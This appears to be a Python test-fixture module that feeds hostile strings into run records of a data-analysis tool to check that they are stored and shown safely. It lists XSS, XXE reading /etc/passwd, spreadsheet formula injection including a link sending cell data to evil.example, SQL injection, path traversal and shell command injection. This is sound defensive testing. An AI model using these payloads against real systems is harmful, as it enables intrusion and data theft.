"""Texts that could do harm, in every place of a run that holds text."""

from igny8_analysis.etl.demo.values import as_json
from igny8_analysis.etl.demo.written import STANDARD, Cases, result, with_error

LONG_TEXT = "The provider said no. " * 480
"""A text of 10 kB."""

HOSTILE_TEXTS: tuple[str, ...] = (
    '<script>alert("x")</script>',
    "</script><script>alert(1)</script>",
    "</title></style></textarea>--><img src=x onerror=alert(1)>",
    "<svg/onload=alert(1)> <a href=javascript:alert(1)>click</a> <iframe src=//evil.example>",
    "]]> <![CDATA[ <?xml ?> <!DOCTYPE x [<!ENTITY e SYSTEM 'file:///etc/passwd'>]>",
    "&lt;b&gt;shown as it is&lt;/b&gt; &amp;amp; &#x3c;script&#x3e;",
    '"onmouseover="alert(1)" \'`',
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "+1+1",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=cmd|' /C calc'!A0",
    "{{7*7}} {% raw %} ${7*7} #{7*7} <%= 7*7 %> {{ config }}",
    "%s %d %n %(name)s {0} {__class__} {0.__init__.__globals__}",
    "'; drop table runs; --",
    '" or 1=1 -- \\\' \\" ;',
    "../../../../etc/passwd",
    "C:\\Windows\\..\\..\\con.txt",
    "$(touch /tmp/owned) `id` | ls && true; exit",
    "[click](javascript:alert(1)) **bold** `code` $x^2$ # title",
    "\u202egnp.exe\u202c \u2066hidden\u2069 \u200b\u200d\ufeff",
    "Z\u0351\u036b\u0343a\u0303\u030bl\u0310g\u0357o \U0001f469\u200d\U0001f4bb \U0001f3f4 \U00010348",
    "\x01\x02\x07\x08\x0b\x0c\x1b[31mred\x1b[0m\x1b]0;title\x07\x7f\x85\x9b2J",
    "line one\nline two\r\nline three\rline four\u2028line five\u2029",
    "\\u0000 \\x00 \\n written out",
    "null",
    "NaN",
    LONG_TEXT,
)
"""Texts that could do harm where they are shown, queried, formatted or written; PostgreSQL takes them all."""

HOSTILE_RUN_IDS = (
    "../../run_20260101_000000_manual",
    "<b>run</b>\"><script>alert('id')</script>",
    "run_2026'; drop table runs; --",
    "--help",
    "run \u202e& <ünïcode> %2e%2e/\n#?",
)


def add_hostile_texts(cases: Cases) -> None:
    """Add five runs with a hostile id, one failed run a text, and one with hostile words everywhere else."""
    for number, run_id in enumerate(HOSTILE_RUN_IDS, start=1):
        cases.add(f"hostile_run_id_{number}", run_id=run_id)
    for number, text in enumerate(HOSTILE_TEXTS, start=1):
        cases.add(
            f"hostile_text_{number}",
            status="failed",
            stage=2,
            credits=20,
            results={1: STANDARD[1], 2: with_error(2, as_json(f"{text} {cases.canary}"))},
            error_message=text,
        )
    cases.add(
        "hostile_words",
        {1: result(1, "50", '"<b>4</b>"', '"=1+1"', ', "</script><script>alert(1)</script>": 1')},
        status="<i>done</i>",
        trigger="<u>'\"=1+1",
        snapshot=as_json({"stage_1_initial": "<script>alert(1)</script>", "</script>": HOSTILE_TEXTS[0]}),
    )
